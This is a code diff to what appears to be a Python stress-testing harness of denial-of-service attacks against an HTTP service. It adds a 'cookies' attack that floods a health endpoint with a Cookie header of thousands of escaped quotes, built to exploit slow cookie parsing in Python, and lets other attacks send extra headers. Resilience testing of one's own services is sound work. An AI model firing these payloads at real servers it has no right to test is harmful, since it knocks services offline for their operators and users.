@@ -26,6 +26,7 @@ SLOW = 200
 SOCKETS = 1500
 HEADERS = 151_000_000
 LONG_HEADER = 40_000_000
+QUOTES = 7900
 
 
 async def flood(target: Target, table: str, greeting: bytes, frames: bytes, count: int = 1) -> None:
@@ -139,13 +140,13 @@ async def sockets(target: Target) -> None:
         await asyncio.sleep(1)
 
 
-async def asked(target: Target, path: str, count: int = 20) -> None:
-    """Requests a page as fast as possible, several times in parallel."""
+async def asked(target: Target, path: str, count: int = 20, more: str = "") -> None:
+    """Requests a page as fast as possible, several times in parallel; `more`: further headers."""
 
     async def one() -> None:
         line = await target.connected()
         while target.now and line:
-            if not await line.send(f"GET {path} HTTP/1.1\r\nHost: here\r\n\r\n".encode()):
+            if not await line.send(f"GET {path} HTTP/1.1\r\nHost: here\r\n{more}\r\n".encode()):
                 break
             target.done.answered(await line.read(1 << 22))
 
@@ -158,6 +159,11 @@ async def docs(target: Target) -> None:
 
 async def ready(target: Target) -> None:
     await asked(target, "/readyz")
+
+
+async def cookies(target: Target) -> None:
+    """Sends a cookie that Python takes long to read: at most some 100 KB a second."""
+    await asked(target, "/healthz", 1, 'Cookie: x="' + '\\"' * QUOTES + '"\r\n')
 
 
 ATTACKS: dict[str, Callable[[Target], Awaitable[None]]] = {
@@ -174,6 +180,7 @@ ATTACKS: dict[str, Callable[[Target], Awaitable[None]]] = {
     "sockets": sockets,
     "docs": docs,
     "ready": ready,
+    "cookies": cookies,
     **GUESTS,
 }
 
